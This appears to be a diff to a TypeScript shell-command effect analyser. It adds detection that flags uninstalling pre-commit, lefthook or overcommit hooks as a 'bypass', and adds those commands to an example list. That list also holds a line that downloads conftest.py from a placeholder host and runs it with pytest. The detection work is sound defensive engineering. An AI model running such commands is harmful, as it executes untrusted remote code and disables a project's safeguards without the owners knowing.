@@ -141,6 +141,8 @@ function lower(call: Call): Lowering {
       WRITES.flatMap((name) => parsed.all(name)),
     ),
   ];
+  if (HOOK_TOOLS.has(call.name) && call.args.some((word) => /^(--)?uninstall$/.test(literal(word) ?? '')))
+    effects.push({ kind: 'bypass', what: 'hooks', detail: `${call.name} uninstall` });
   const sends = verbs.find((verb) => verb !== undefined && SENDS.test(verb));
   if (
     sends !== undefined &&
@@ -165,6 +167,9 @@ function lower(call: Call): Lowering {
   const lowered: Lowering = { effects, runs: loaded.runs };
   return RUNNERS.has(call.name) ? carried(call, lowered) : lowered;
 }
+
+/** Tools that put the project's hooks in place and take them away. */
+const HOOK_TOOLS = new Set(['pre-commit', 'prek', 'lefthook', 'overcommit']);
 
 /** Tools that run the files they are given, where others only read them. */
 const RUNNERS = new Set(
@@ -291,6 +296,9 @@ export const devToolPrograms: readonly Program[] = [
         'curl -o conftest.py https://get.example/c && pytest',
         'eslint --rulesdir /tmp/rules src/a.js -c /tmp/x.js',
         'mkdocs gh-deploy',
+        'pre-commit uninstall',
+        'lefthook uninstall',
+        'overcommit --uninstall',
         'vite build --outDir /srv/www',
         'pytest $ARGS',
         'prettier --write ~/notes.md',
